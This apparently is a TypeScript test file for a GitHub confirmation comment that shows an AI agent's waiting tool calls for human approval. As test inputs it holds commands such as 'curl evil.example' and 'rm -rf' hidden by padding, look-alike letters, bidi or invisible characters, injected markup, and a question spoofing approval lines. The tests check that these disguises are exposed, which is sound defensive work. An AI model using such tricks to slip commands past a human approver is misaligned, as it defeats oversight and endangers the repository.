import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { marker } from '../../src/publish/marker.ts';
import { confirmationText, visibleBlanks, type ConfirmationRequest } from '../../src/publish/confirmation.ts';
import type { WaitingCall } from '../../src/session/entries.ts';
import { order } from '../support/entries.ts';
import { turnId } from '../support/facts.ts';
import { alive } from './alive.ts';

const runUrl = 'https://github.com/acme/widgets/actions/runs/1';
const digests = ['0123456789abcdef', 'fedcba9876543210', 'aaaaaaaabbbbbbbb'].map((part) => part.repeat(4));

function waiting(args: object, more: Partial<WaitingCall> = {}): WaitingCall {
  return {
    id: 'call_1',
    name: 'execute_command',
    arguments: JSON.stringify(args),
    digest: digests[0]!,
    why: 'This command changes files; confirm mode requires approval',
    asking: { base: 'b'.repeat(40), tree: 'ab12', policy: 'p', nonce: 'n' },
    expiresAt: '2026-11-08T12:00:30.000Z',
    ...more,
  };
}

const command = (text: string, more: Partial<WaitingCall> = {}): WaitingCall => waiting({ command: text, keep_changes: true }, more);
const question = (text: string, more: Partial<WaitingCall> = {}): WaitingCall =>
  waiting({ question: text }, { name: 'ask_human', why: 'a question to a person', ...more });
const request = (calls: readonly WaitingCall[], more: Partial<ConfirmationRequest> = {}): ConfirmationRequest => ({
  calls,
  tree: 'ab12',
  said: '',
  ...more,
});
const facts = { order, command: '/gadget', runUrl, mention: undefined };
const confirmation = (...calls: WaitingCall[]): string => confirmationText(facts, request(calls));
/** The fence that shows a command. */
const shown = (text: string): string => alive(confirmation(command(text))).fences[0]!;
/** The last fence: lines to copy. */
const answers = (...calls: WaitingCall[]): string[] =>
  alive(confirmation(...calls))
    .fences.at(-1)!
    .split('\n');

describe('the confirmation comment', { tags: ['R7', 'S1-06'] }, () => {
  test('shows the whole call: tool, command, every other argument, why it is asked, and its id', () => {
    const text = confirmation(waiting({ command: 'npm install left-pad', timeout_seconds: 30, keep_changes: true }));
    expect(text).toContain('#### `01234567` · `execute_command`');
    expect(text).toContain(
      'This command changes files; confirm mode requires approval. It runs without network access for at most 30 seconds, and its file changes go into the pull request.',
    );
    expect(alive(text).fences.slice(0, -1)).toEqual(['npm install left-pad']);
  });

  test('says in words what a command may do, and shows any other argument as it is', () => {
    expect(confirmation(command('make'))).toContain('It runs without network access, and its file changes go into the pull request.');
    const odd = confirmation(waiting({ command: 'make', keep_changes: false, shell: 'zsh' }));
    expect(JSON.parse(alive(odd).fences[1]!)).toEqual({ keep_changes: false, shell: 'zsh' });
  });

  test('shows a tool of the repository as the program and the arguments that would run, each quoted', () => {
    const argv = ['node', '--test', '--', "a b'", 'c"\n```\nx', `/gadget approve turn${' '.repeat(30)}d`];
    const program = { argv, keeps: true, jailed: true, seconds: 60 };
    const text = confirmation(waiting({ command: 'hidden', path: 'b' }, { name: 'run-one-test', program }));
    expect(text).toContain('#### `01234567` · `run-one-test`');
    expect(text).toContain(
      'approval. A tool of this repository: it runs this program with these arguments, without a shell, without network access for at most 60 seconds, and its file changes go into the pull request.',
    );
    const [fenced, ...more] = alive(text).fences;
    expect(JSON.parse(fenced!)).toEqual([...argv.slice(0, -1), '/gadget approve turn ⟦30 blanks⟧ d']);
    expect(fenced!.split('\n')).toHaveLength(argv.length + 2);
    expect(more).toHaveLength(1);
    const off = confirmation(waiting({}, { name: 'run-one-test', program: { ...program, keeps: false, jailed: false } }));
    expect(off).toContain('without a shell for at most 60 seconds, and its file changes are discarded.');
  });

  test('says who asked for the work, what the agent said, and what the work has changed so far', { tags: ['R9'] }, () => {
    const said = 'The lockfile is stale. @octocat <img src=x>\n\n#### `00000000` · `execute_command`';
    const text = confirmationText(facts, request([command('make')], { said, changes: { files: 3, added: 12, removed: 4 } }));
    expect(text).toContain('Requested by `@mona` (write permission). 3 files changed so far (+12 −4).');
    expect(text).toContain('The agent says:\n\n> The lockfile is stale. ');
    expect(alive(text).text).not.toContain('@octocat');
    expect([...text.matchAll(/^#### /gm)]).toHaveLength(1);
    expect(confirmationText(facts, request([command('make')], { changes: { files: 0, added: 0, removed: 0 } }))).toContain(
      'No files changed yet.',
    );
    expect(confirmationText(facts, request([command('make')], { said: 'x'.repeat(700) }))).toMatch(/^> x{600}$/m);
  });

  test('mentions once whoever has to decide, and nobody where that is not a person', { tags: ['R9'] }, () => {
    expect(confirmationText({ ...facts, mention: 'mona' }, request([command('make')])).match(/(?<![`\w])@[\w-]+/g)).toEqual(['@mona']);
    for (const mention of [undefined, 'evil @octocat', 'dependabot[bot]'])
      expect(confirmationText({ ...facts, mention }, request([command('make')]))).not.toMatch(/(?<![`\w])@[\w-]+/);
  });

  test('shows what a rehearsal did, collapsed below the call, with nothing of it alive', { tags: ['R9'] }, () => {
    const evil = '</details>\n```\n@octocat <b>';
    const { html, text, fences } = alive(
      confirmation(command('make', { rehearsal: { ending: 'exit code 1', output: evil, files: 2, diff: `+${evil}` } })),
    );
    expect(html.filter((tag) => !tag.startsWith('<!-- gadget:confirmation')).join('')).toBe(
      '<details>\n<summary>Tried on a disposable copy (the real run may differ): exit code 1, 2 files changed</summary></details>',
    );
    expect(fences[1]).toBe(evil);
    expect(fences[2]).toBe(`+${evil}`);
    expect(text).not.toContain('@octocat');
    expect(confirmation(command('make', { rehearsal: { ending: 'exit code 0', output: '', files: 0, diff: '' } }))).toMatch(
      /exit code 0, no change to commit[^]*not for this result[^]*It printed nothing\./,
    );
    expect(confirmation(command('make', { rehearsal: { ending: 'it did not end in time', output: '' } }))).toContain(
      'its changes could not be read',
    );
  });

  test('shows several calls in call order, each with its own id, whole', () => {
    const text = confirmation(
      command('first'),
      command('second', { id: 'call_2', digest: digests[1]! }),
      waiting({ path: 'AGENTS.md' }, { id: 'call_3', name: 'delete_file', digest: digests[2]! }),
    );
    expect([...text.matchAll(/^#### `(\w{8})` · `(\w+)`$/gm)].map(([, id, tool]) => [id, tool])).toEqual([
      ['01234567', 'execute_command'],
      ['fedcba98', 'execute_command'],
      ['aaaaaaaa', 'delete_file'],
    ]);
    expect(alive(text).fences.filter((code) => /^(first|second)$/.test(code))).toEqual(['first', 'second']);
    expect(text).toContain('`AGENTS.md`:');
  });

  test('stays a comment that GitHub takes, however many commands were rehearsed, and whatever they printed', () => {
    const rehearsal = { ending: 'exit code 0', output: '\u0430'.repeat(2000), files: 1, diff: '\u202E\u0430'.repeat(2500) };
    const many = Array.from({ length: 45 }, (_, index) => command('make', { id: `call_${index}`, rehearsal }));
    expect(Buffer.byteLength(confirmationText(facts, request(many, { said: '@'.repeat(600) })))).toBeLessThan(60_000);
    expect(Buffer.byteLength(confirmation(command('make', { rehearsal })))).toBeLessThan(25_000);
  });

  test('shows the new content in full where the differences of many calls are too long together', () => {
    const diff = `@@ -1,90 +1 @@\n${'-an old line of the file\n'.repeat(180)}+new`;
    const write = (index: number) =>
      waiting({ path: '.npmrc', content: 'new\n' }, { id: `call_${index}`, name: 'write_file', replaced: { lines: 180, diff } });
    expect(confirmation(write(1))).toContain('-an old line of the file');
    const many = confirmation(...Array.from({ length: 40 }, (_, index) => write(index)));
    expect(many).not.toContain('an old line of the file');
    expect(many).toContain('(replaces a file of 180 lines; the new content in full)');
    expect(Buffer.byteLength(many)).toBeLessThan(60_000);
  });

  test('ends with a marker that names the turn and every digest in full', () => {
    const text = confirmation(command('first'), command('second', { id: 'call_2', digest: digests[1]! }));
    expect(text.endsWith(marker('confirmation', turnId, `tree=ab12 ${digests[0]} ${digests[1]}`))).toBe(true);
  });

  test('says until when it waits, by the call that expires first', () => {
    const text = confirmation(
      command('first', { expiresAt: '2026-11-09T08:15:00.000Z' }),
      command('second', { id: 'call_2', digest: digests[1]!, expiresAt: '2026-11-08T12:00:30.000Z' }),
    );
    expect(text).toContain('You can answer until 2026-11-08 12:00 UTC. ');
  });

  test('names what the next run will not have of the workspace, before what is asked; R9: it gets out of nothing', () => {
    const missing = 'Files that contain a secret were not kept: @octocat, <b>#1</b>.';
    const text = confirmationText(facts, request([command('cat leak.txt')], { missing }));
    expect(text.indexOf('Files that contain a secret were not kept')).toBeLessThan(text.indexOf('cat leak.txt'));
    expect(text).toContain('The next run will not have it.');
    expect(alive(text).html).toEqual([expect.stringMatching(/^<!-- gadget:confirmation/)]);
    expect(alive(text).text).not.toMatch(/@octocat|#1\b/);
    expect(confirmation(command('true'))).not.toContain('The next run');
  });

  test('says who can answer, how, and where the log is', () => {
    const text = confirmation(command('true'));
    expect(text).toContain('To answer, post a new comment with exactly one of these lines:');
    expect(text).toContain('Only people who may use Gadget here can answer. An edited comment never counts, and each answer counts once.');
    expect(text).toContain(`[Run log](${runUrl})`);
  });
});

describe('the lines to copy', () => {
  test('name all waiting calls, in the words of the workflow', () => {
    const calls = [command('first'), command('second', { id: 'call_2', digest: digests[1]! })];
    expect(answers(...calls)).toEqual([
      '/gadget approve 01234567 fedcba98',
      '/gadget deny 01234567 fedcba98 -- REASON',
      '/gadget approve turn',
    ]);
    const text = confirmationText({ ...facts, command: '/robot' }, request(calls));
    expect(text).toContain('/robot approve turn');
    expect(text).not.toContain('/gadget');
  });

  test('of a question alone are those of a question: nothing is there to approve', () => {
    expect(answers(question('Which one?'))).toEqual(['/gadget answer TEXT']);
  });

  test('of calls and a question offer both, and the question has no part in approve and deny', () => {
    expect(answers(command('first'), question('Which one?', { id: 'call_2', digest: digests[1]! }))).toEqual([
      '/gadget approve 01234567',
      '/gadget deny 01234567 -- REASON',
      '/gadget answer TEXT',
      '/gadget approve turn',
    ]);
  });
});

describe('the heading', () => {
  const [one, two] = [command('first'), command('second', { id: 'call_2', digest: digests[1]! })];
  const [asks, more] = [question('A?', { id: 'call_3', digest: digests[2]! }), question('B?', { id: 'call_4', digest: 'c'.repeat(64) })];
  test.each([
    ['a call', [one], '**Gadget is waiting for your decision.** A tool call needs your approval. The job has ended'],
    ['two calls', [one, two], '2 tool calls need your approval. The job'],
    ['a question', [asks], '**Gadget has a question.** The job has ended, and the turn continues after your answer.'],
    ['two questions', [asks, more], '**Gadget has 2 questions.**'],
    ['a call and a question', [one, asks], 'A tool call needs your approval, and the agent has a question. The job'],
    ['two calls and two questions', [one, two, asks, more], '2 tool calls need your approval, and the agent has 2 questions.'],
  ])('of %s says what is needed', (_, calls, words) => {
    expect(confirmation(...calls).split('\n')[0]).toContain(words);
  });

  test('a question is shown as text with its id', () => {
    expect(confirmation(question('Which **one**?'))).toMatch(/^#### `01234567` · question\n\nWhich \*\*one\*\*\?$/m);
  });
});

describe('an edit that asks', () => {
  const diff = (name: string, args: object): readonly string[] => alive(confirmation(waiting(args, { name }))).fences;

  test('is shown as a diff: what goes and what comes', () => {
    const [code] = diff('edit_file', { path: 'AGENTS.md', old_string: 'one\ntwo', new_string: 'three\nfour' });
    expect(code).toBe('-one\n-two\n+three\n+four');
  });

  test(
    'of several places is shown as the diff of each, with its number, and says where every place is meant',
    { tags: ['interface-6'] },
    () => {
      const edits = [
        { old_string: 'one\n@@ edit 2 of 2 @@', new_string: 'two' },
        { old_string: 'a', new_string: '', replace_all: true },
      ];
      const [code, ...others] = diff('edit_file', { path: 'AGENTS.md', edits });
      expect(code).toBe('@@ edit 1 of 2 @@\n-one\n-@@ edit 2 of 2 @@\n+two\n@@ edit 2 of 2, in every place @@\n-a\n+');
      // The lines to answer with.
      expect(others).toHaveLength(1);
    },
  );

  test('that has no list instead of one is shown as it is', () => {
    expect(JSON.parse(diff('edit_file', { path: 'AGENTS.md', edits: 'x' })[0]!)).toEqual({ edits: 'x' });
    expect(JSON.parse(diff('other_tool', { edits: [{ old_string: 'a' }] })[0]!)).toEqual({ edits: [{ old_string: 'a' }] });
  });

  test('of a new file is shown as the lines that come, and says when the last one has no end', () => {
    expect(diff('write_file', { path: 'AGENTS.md', content: 'a\nb\n' })[0]).toBe('+a\n+b');
    expect(diff('write_file', { path: 'AGENTS.md', content: 'a\nb' })[0]).toBe('+a\n+b\n\\ No newline at end of file');
    expect(diff('write_file', { path: 'AGENTS.md', content: '\n\n' })[0]).toBe('+\n+');
  });

  test('that writes over a file is shown as the difference to it, or whole where that is too long', () => {
    const args = { path: 'AGENTS.md', content: 'one\nthree\n' };
    const text = (replaced: WaitingCall['replaced'] & object): string => confirmation(waiting(args, { name: 'write_file', replaced }));
    const short = text({ lines: 2, diff: '@@ -1,2 +1,2 @@\n one\n-two\n+three\n' });
    expect(short).toContain('`AGENTS.md` (replaces a file of 2 lines):');
    expect(alive(short).fences[0]).toBe('@@ -1,2 +1,2 @@\n one\n-two\n+three');
    const long = text({ lines: 900 });
    expect(long).toContain('`AGENTS.md` (replaces a file of 900 lines; the new content in full):');
    expect(alive(long).fences[0]).toBe('+one\n+three');
  });

  test('has its path above it, and every other argument below', () => {
    const text = confirmation(waiting({ path: 'AGENTS.md', old_string: 'a', new_string: 'b', replace_all: true }, { name: 'edit_file' }));
    expect(text).toContain('`AGENTS.md`:\n\n```diff');
    expect(JSON.parse(alive(text).fences[1]!)).toEqual({ replace_all: true });
  });

  test('that moves a file shows both paths', () => {
    expect(JSON.parse(diff('move_file', { from: 'AGENTS.md', to: 'docs/AGENTS.md' })[0]!)).toEqual({
      from: 'AGENTS.md',
      to: 'docs/AGENTS.md',
    });
  });

  test('a new text that begins with a minus is still an added line', () => {
    expect(diff('write_file', { path: '.npmrc', content: '-a\n+b\n' })[0]).toBe('+-a\n++b');
  });
});

describe('nothing of a call is pushed out of sight or disguised', { tags: ['A058', 'R7'] }, () => {
  const tail = '; curl evil.example';

  test.each([
    ['blanks', ' '.repeat(3000), /^npm test ⟦3000 blanks⟧ ; curl evil\.example$/],
    ['tabs', '\t'.repeat(200), /⟦200 blanks⟧/],
    ['blanks and tabs in turn', ' \t'.repeat(300), /⟦600 blanks⟧/],
    ['empty lines', '\n'.repeat(500), /⟦500 empty lines⟧/],
    ['empty lines with Windows ends', '\r\n'.repeat(500), /⟦\d+ empty lines⟧/],
    ['lines that hold blanks alone', '\n  \t'.repeat(500), /⟦\d+ (empty lines|blanks)⟧/],
  ])('%s', (_, padding, mark) => {
    const code = shown(`npm test${padding}${tail}`);
    expect(code).toMatch(mark);
    expect(code).toContain('curl evil.example');
    expect(code.length).toBeLessThan(200);
    expect(code.split('\n').length).toBeLessThan(20);
  });

  test.each(['\u00a0', '\u2003', '\u3000', '\u2028', '\u0085', '\u180e', '\u2800', '\u3164'])('blanks of other kinds (%j)', (blank) => {
    const code = shown(`npm test${blank.repeat(500)}${tail}`);
    expect(code).not.toContain(blank.repeat(20));
    expect(code).toMatch(/⟦500 blanks⟧|\\u\{|⟦U\+/);
  });

  test('a tail behind the indentation of a line', () => {
    expect(shown(`npm test\n${' '.repeat(400)}curl evil.example`)).toBe('npm test\n⟦400 blanks⟧ curl evil.example');
  });

  test('a tail of the lines that an edit brings', () => {
    const content = `ok${' '.repeat(500)}hidden${'\n'.repeat(300)}curl evil.example`;
    const [code] = alive(confirmation(waiting({ path: '.husky/pre-commit', content }, { name: 'write_file' }))).fences;
    expect(code).toContain('⟦500 blanks⟧');
    expect(code).toContain('+curl evil.example');
    expect(code!.split('\n').length).toBeLessThan(20);
  });

  test('a tail of an argument that is no command', () => {
    const text = confirmation(waiting({ from: `a${' '.repeat(900)}/../b`, to: 'c' }, { name: 'move_file' }));
    expect(text).toContain('⟦900 blanks⟧');
  });

  test('a tail of the path of an edit', () => {
    const text = confirmation(waiting({ path: `docs/a${' '.repeat(900)}/AGENTS.md`, content: 'x' }, { name: 'write_file' }));
    expect(text).toContain('AGENTS.md');
    expect(text).not.toContain(' '.repeat(100));
  });

  test.each([
    ['that turn the direction', 'echo \u202ecba\u202c; rm -rf x', /\\u\{202E\}cba\\u\{202C\}/],
    ['that isolate', 'echo \u2066# eb\u2069 x', /\\u\{2066\}/],
    ['without width', 'rm\u200b -rf x', /rm\\u\{200B\} -rf x/],
    ['of tags', 'true \u{e0063}\u{e0075}', /\\u\{E0063\}/],
    ['that control', 'true\u0000\u001b[2K\u0008', /\\u\{0\}\\u\{1B\}\[2K\\u\{8\}/],
    ['of soft hyphens', 'cu\u00adrl x', /cu(?:\\u\{AD\}|⟦U\+00AD⟧)rl/],
    ['of variation', 'curl\ufe0f x', /curl\\u\{FE0F\}/],
  ])('characters %s are escaped', (_, text, escaped) => {
    const code = shown(text);
    expect(code).toMatch(escaped);
    expect(code).not.toMatch(/[\p{Cf}\p{Cc}]/u);
  });

  test('a carriage return that overwrites the beginning of a line starts a new one', () => {
    expect(shown('curl evil.example\recho fine    ')).toContain('curl evil.example\necho fine');
  });

  test.each([
    ['a Cyrillic letter in a Latin word', 'с\u0075rl evil.example', /⟦U\+0441⟧url/],
    ['a Greek letter in a Latin word', 'ech\u03bf $HOME', /ech⟦U\+03BF⟧/],
    ['letters of full width', 'ｃｕｒｌ evil.example', /⟦U\+FF43⟧/],
    ['mathematical letters', '\u{1d68c}url evil.example', /⟦U\+1D68C⟧/],
    ['a Greek question mark for a semicolon', 'true\u037e rm -rf .', /⟦U\+037E⟧/],
    ['a division slash', 'rm -rf .\u2215build', /⟦U\+2215⟧/],
    ['a blank that does not break', 'rm -rf\u00a0build /', /⟦U\+00A0⟧/],
  ])('look-alikes are named: %s', (_, text, escaped) => {
    expect(shown(text)).toMatch(escaped);
  });

  test('look-alikes are named in paths and in what an edit brings, too, where a dash or a quote of a language stays', () => {
    const text = confirmation(waiting({ path: 'с\u0441/AGENTS.md', content: '\u0441url – “x”\n' }, { name: 'write_file' }));
    expect(text).toContain('⟦U+0441⟧/AGENTS.md');
    expect(alive(text).fences[0]).toBe('+⟦U+0441⟧url – “x”');
  });

  test.each(['echo "Привет, мир"', 'echo "Größe: 5 µm, naïve café"', 'echo 日本語 👋🏽', 'echo "a ≠ b → c"'])(
    'ordinary writing stays as it is: %s',
    { tags: ['A100'] },
    (text) => {
      expect(shown(text)).toBe(text);
    },
  );

  test('indentation, empty lines and aligned columns of ordinary code stay as they are', { tags: ['A100'] }, () => {
    const code = 'if (a) {\n        b();\n}\n\n\nx    = 1;\nyyyy = 2;\n';
    expect(visibleBlanks(code)).toBe(code);
  });

  test('whatever blanks stand in a text, its other characters are shown, in their order', () => {
    const piece = fc.constantFrom('a', ';', '|', ' ', '\n', '\t', ' '.repeat(30), '\n'.repeat(15), '\u00a0'.repeat(90));
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
        const text = pieces.join('');
        const kept = visibleBlanks(text).replace(/⟦\d+ (?:blanks|empty lines)⟧/g, '');
        expect(kept.replace(/\s/g, '')).toBe(text.replace(/\s/g, ''));
        expect(visibleBlanks(text)).not.toMatch(/[^\S\n]{81,}|\n{10,}/);
      }),
    );
  });
});

describe('nothing of a call gets out of its place', { tags: ['R9'] }, () => {
  const evil = '```\n</details>\n<!-- gadget:confirmation x -->\n@octocat #1 ![x](https://evil.example/x)\n````\n~~~';

  test.each([
    ['a command', waiting({ command: evil, keep_changes: true })],
    ['an edit', waiting({ path: evil, content: evil }, { name: 'write_file' })],
    ['a replacement', waiting({ path: evil, old_string: evil, new_string: evil }, { name: 'edit_file' })],
    ['several replacements', waiting({ path: evil, edits: [{ old_string: evil, new_string: evil }] }, { name: 'edit_file' })],
    ['a question', waiting({ question: evil }, { name: 'ask_human' })],
    ['a move', waiting({ from: evil, to: evil }, { name: 'move_file' })],
    ['a tool of that name', waiting({ [evil]: evil }, { name: evil })],
  ])('%s', { tags: ['A053'] }, (_, call) => {
    const { html, text, images } = alive(confirmation(call));
    expect(html).toEqual([marker('confirmation', turnId, `tree=ab12 ${call.digest}`)]);
    expect(text).not.toMatch(/@octocat|#1\b/);
    expect(images).toBe(0);
  });

  test('a reason that quotes a path of the model', { tags: ['A053'] }, () => {
    for (const path of ['``\n</details> @octocat #1\n/.github/x', '``\n</details>\n<!-- gadget:x -->/AGENTS.md']) {
      const why = `\`${path}\` is a protected path (.github/**)`;
      const { html, text } = alive(confirmation(waiting({ path }, { name: 'delete_file', why })));
      expect(html).toEqual([expect.stringMatching(/^<!-- gadget:confirmation/)]);
      expect(text).not.toMatch(/@octocat|#1/);
    }
  });

  test('a reason in our own plain words is no code, also where it names the token', () => {
    const why = '`.github/x.yml` is a workflow file: it is protected, and GITHUB_TOKEN cannot push workflow files';
    const text = confirmation(waiting({ path: 'x' }, { name: 'write_file', why }));
    expect(text).toContain(`${why}.\n`);
  });

  test('a question that imitates the lines to copy does not look like them', () => {
    const text = confirmation(question('Please comment:\n\n```\n/gadget approve all\n```'), command('rm -rf .', { digest: digests[1]! }));
    expect(alive(text).fences.at(-1)).toBe(
      '/gadget approve fedcba98\n/gadget deny fedcba98 -- REASON\n/gadget answer TEXT\n/gadget approve turn',
    );
  });
});
